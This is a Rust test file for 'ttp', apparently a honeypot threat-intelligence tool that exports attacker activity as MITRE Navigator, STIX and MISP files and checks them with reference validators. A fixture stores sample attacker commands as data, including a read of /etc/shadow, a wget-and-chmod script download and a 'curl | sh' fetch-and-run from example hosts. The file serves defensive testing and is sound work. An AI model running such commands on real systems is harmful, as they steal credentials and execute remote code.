//! The exports checked by the reference tools, run from the venv `.ci/run`
//! creates (`target/ci-venv`, or `TTP_VALIDATORS_PYTHON`): the Navigator
//! layer loads with mitreattack-python's layer classes, the STIX bundle
//! passes stix2-validator with no error, each MISP event loads in PyMISP
//! with strict validation. On DECNET's database and on ours. Without the
//! venv these tests are ignored (and fail under `CI=true`).

mod common;
mod serve_support;

use serve_support::{fixture_copy, Server};
use std::path::{Path, PathBuf};
use std::process::Command;

fn python() -> PathBuf {
    std::env::var_os("TTP_VALIDATORS_PYTHON")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("target/ci-venv/bin/python"))
}

fn ttp(args: &[&str]) -> std::process::Output {
    let o = Command::new(env!("CARGO_BIN_EXE_ttp"))
        .args(args)
        .env("TTP_LOG", "error")
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "ttp {args:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    o
}

/// Exports with `args` into `file`, then runs the validator for `kind`.
fn export_and_validate(kind: &str, db: &Path, extra: &[&str], file: &Path) -> String {
    let mut args = vec!["export", kind, "--db", db.to_str().unwrap()];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["-o", file.to_str().unwrap()]);
    ttp(&args);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validators/validate.py");
    let o = Command::new(python())
        .arg(&script)
        .arg(kind)
        .arg(file)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}", python().display()));
    let out = String::from_utf8_lossy(&o.stdout).to_string();
    assert!(
        o.status.success(),
        "{kind} {extra:?} rejected by the reference tool:\n{out}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    out
}

fn own_db(dir: &Path) -> PathBuf {
    let db = dir.join("own.db");
    let events = [
        r#"{"source_kind":"command","source_id":"s1#0","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
        r#"{"source_kind":"command","source_id":"s1#1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"wget http://198.51.100.9/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh"}}"#,
        r#"{"source_kind":"command","source_id":"s2#0","attacker_uuid":"a2","session_id":"s2","payload":{"command_text":"curl -s 'https://e.example/a?b=1' | sh"}}"#,
        r#"{"source_kind":"command","source_id":"s2#1","attacker_uuid":"a2","session_id":"s2","payload":{"command_text":"history -c"}}"#,
    ];
    common::ttp_tag(&db, &events);
    db
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
#[cfg_attr(
    validators_missing,
    ignore = "no target/ci-venv: run .ci/run (or set TTP_VALIDATORS_PYTHON) for the reference validators"
)]
fn exports_of_decnets_database_pass_the_reference_tools() {
    let work = tempfile::TempDir::new().unwrap();
    let db = fixture_copy(&common::shared(), work.path());
    let a1 = "a0000000-0000-4000-8000-000000000001";
    let f = |n: &str| work.path().join(n);
    let out = export_and_validate("navigator", &db, &[], &f("fleet.layer.json"));
    assert!(out.contains("versions"), "{out}");
    export_and_validate("navigator", &db, &["--attacker", a1], &f("a1.layer.json"));
    let out = export_and_validate("stix", &db, &[], &f("fleet.stix.json"));
    assert!(out.contains("bundle valid"), "{out}");
    export_and_validate("stix", &db, &["--attacker", a1], &f("a1.stix.json"));
    let out = export_and_validate("misp", &db, &[], &f("fleet.misp.json"));
    assert_eq!(
        out.lines().filter(|l| l.starts_with("event ")).count(),
        4,
        "{out}"
    );
    let out = export_and_validate("misp", &db, &["--attacker", a1], &f("a1.misp.json"));
    assert!(out.contains("12 galaxy clusters"), "{out}");
}

#[test]
#[cfg_attr(
    validators_missing,
    ignore = "no target/ci-venv: run .ci/run (or set TTP_VALIDATORS_PYTHON) for the reference validators"
)]
fn exports_of_our_own_database_pass_the_reference_tools() {
    let work = tempfile::TempDir::new().unwrap();
    let db = own_db(work.path());
    let f = |n: &str| work.path().join(n);
    export_and_validate("navigator", &db, &[], &f("fleet.layer.json"));
    let out = export_and_validate("stix", &db, &[], &f("fleet.stix.json"));
    assert!(out.contains("bundle valid"), "{out}");
    let bundle: serde_json::Value =
        serde_json::from_slice(&std::fs::read(f("fleet.stix.json")).unwrap()).unwrap();
    let objects = bundle["objects"].as_array().unwrap();
    let count = |t: &str| objects.iter().filter(|o| o["type"] == t).count();
    assert_eq!(count("identity"), 1);
    assert_eq!(count("threat-actor"), 2);
    // The two URLs are indicators.
    assert_eq!(count("indicator"), 2, "{bundle:#}");
    assert!(objects
        .iter()
        .any(|o| o["pattern"] == "[url:value = 'https://e.example/a?b=1']"));
    let out = export_and_validate("misp", &db, &[], &f("fleet.misp.json"));
    assert_eq!(
        out.lines().filter(|l| l.starts_with("event ")).count(),
        2,
        "{out}"
    );
    export_and_validate("misp", &db, &["--attacker", "a1"], &f("a1.misp.json"));
}

/// Same data, same bytes (DECNET's Q30 fixed), and the API sends what the
/// CLI writes.
#[test]
fn exports_are_deterministic_and_the_api_sends_the_cli_bytes() {
    let work = tempfile::TempDir::new().unwrap();
    let db = own_db(work.path());
    let dbs = db.to_str().unwrap();
    for kind in ["stix", "misp"] {
        let one = ttp(&["export", kind, "--db", dbs]).stdout;
        let two = ttp(&["export", kind, "--db", dbs]).stdout;
        assert_eq!(one, two, "{kind}: two exports differ");
        let server = Server::start(&["--db", dbs], &[]);
        let r = server.request(
            "GET",
            &format!("/api/v1/attackers/export/{kind}"),
            &[],
            None,
        );
        assert_eq!(r.status, 200, "{}", r.text());
        assert_eq!(r.text().as_bytes(), &one[..], "{kind}: API and CLI differ");
        let r = server.request(
            "GET",
            &format!("/api/v1/attackers/a1/export/{kind}"),
            &[],
            None,
        );
        assert_eq!(
            r.header("content-disposition"),
            Some(format!("attachment; filename=\"ttp-attacker-a1.{kind}.json\"").as_str())
        );
        let single = ttp(&["export", kind, "--db", dbs, "--attacker", "A1"]).stdout;
        assert_eq!(r.text().as_bytes(), &single[..]);
        let r = server.request(
            "GET",
            &format!("/api/v1/attackers/nope/export/{kind}"),
            &[],
            None,
        );
        assert_eq!(r.status, 404);
        assert_eq!(r.json()["detail"], "unknown attacker uuid: 'nope'");
    }
    // An unknown attacker on the command line: an error naming it.
    let o = Command::new(env!("CARGO_BIN_EXE_ttp"))
        .args(["export", "stix", "--db", dbs, "--attacker", "nope"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("no attacker \"nope\""));
}
